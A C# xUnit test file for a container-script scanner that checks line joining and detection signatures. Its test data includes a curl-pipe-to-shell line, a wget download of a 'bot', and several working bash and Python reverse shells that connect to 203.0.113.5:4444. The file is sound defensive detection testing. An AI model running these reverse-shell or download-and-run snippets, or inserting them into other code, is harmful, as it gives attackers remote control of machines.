using DockerScan.Scanners.Autorun.Text;

namespace DockerScan.Scanners.Tests.Autorun.Text;

public sealed class ScriptTextTests
{
    [Theory]
    [InlineData("a\nb", "1 a", "2 b")]
    [InlineData("a \\\nb\nc", "1 a b", "3 c")]
    [InlineData("a |\n b &&\nc", "1 a |  b && c")]
    [InlineData("# x\na", "2 a")]
    [InlineData("#!/bin/sh\na", "1 #!/bin/sh", "2 a")]
    [InlineData("# x \\\na", "2 a")]
    [InlineData("a # x \\\nb", "1 a # x b", "1 a # x \\", "2 b")]
    [InlineData("a\r\nb\r", "1 a", "2 b")]
    [InlineData("a\f\u2028b", "1 a\f\u2028b")]
    [InlineData("a \\", "1 a ")]
    public void LogicalLines_Joining_KeepsNumbers(string script, params string[] expected)
        => Assert.Equal(expected, ScriptText.LogicalLines(script).Select(line => $"{line.Number} {line.Text}"));

    [Fact]
    public void Matches_AcrossTheCutOfALongLine_IsFound()
    {
        foreach (var before in Enumerable.Range(ScriptText.MaxPiece - 60, 70))
        {
            var line = new string('x', before) + "; curl http://x.example/a | sh";

            Assert.Contains(ScriptText.Matches(TestSignatures.All.Scripts, line, TestContext.Current.CancellationToken), hit => hit.Signature.Id == "download-and-run.pipe-shell");
        }
    }

    [Fact]
    public void Matches_FarApart_IsNotJoined()
        => Assert.Empty(ScriptText.Matches(TestSignatures.All.Scripts,
            "wget http://x.example/bot -O /opt/b\na\nb\nc\nd\ne\nf\nchmod +x /opt/c\n./d", TestContext.Current.CancellationToken));

    [Theory]
    [InlineData("#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.5/4444\nwhile read -r l <&5\ndo\n  eval \"$l\" >&5 2>&1\ndone", "reverse-shell.read-lines")]
    [InlineData("H=203.0.113.5\nexec 9<>/dev/tcp/$H/4444\nprintf hi >&9\nwhile IFS= read -r c; do\n  $c >&9 2>&9\ndone <&9", "reverse-shell.read-lines")]
    [InlineData("import socket\nimport os\ns = socket.socket()\ns.connect((\"203.0.113.5\", 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\nos.execvp(\"sh\", [\"sh\"])", "reverse-shell.script-lines")]
    [InlineData("import socket, subprocess\n\ns = socket.create_connection((h, 4444))\nwhile True:\n    c = s.recv(1024).decode()\n    out = subprocess.getoutput(c)\n    s.sendall(out.encode())", "reverse-shell.script-lines")]
    public void Matches_ShellOverSeveralLines_IsFound(string script, string id)
        => Assert.Contains(ScriptText.Matches(TestSignatures.All.Scripts, script, TestContext.Current.CancellationToken), hit => hit.Signature.Id == id);

    [Theory]
    [InlineData("exec 3<>/dev/tcp/localhost/6379\nprintf 'PING\\r\\n' >&3\nread -r answer <&3\n[ \"$answer\" = +PONG ] || exit 1\nwhile read -r task; do\n  $task >&2\ndone < /etc/tasks")]
    [InlineData("exec 3<>/dev/tcp/$host/80\nwhile IFS= read -r line; do\n  echo \"$line\" >&2\ndone <&3\nd=$(date)")]
    [InlineData("import socket\nimport subprocess\ns = socket.socket()\ns.connect((\"db\", 5432))\ns.close()\nsys.stdout.flush()\nsubprocess.run([\"sh\", \"/opt/start.sh\"])")]
    [InlineData("import socket\nwhile True:\n    data = conn.recv(1024)\n    if not data: break\n    conn.sendall(data)\nsubprocess.run(command)")]
    public void Matches_ConnectionOfAnHonestScript_IsNoShell(string script)
        => Assert.DoesNotContain(ScriptText.Matches(TestSignatures.All.Scripts, script, TestContext.Current.CancellationToken), hit => hit.Signature is { Category: "reverse-shell", Severity: >= DockerScan.Core.Findings.Severity.High });

    [Fact]
    public void Matches_Cancelled_Throws()
        => Assert.ThrowsAny<OperationCanceledException>(() => ScriptText.Matches(TestSignatures.All.Scripts, "a", new CancellationToken(true)).Count());
}
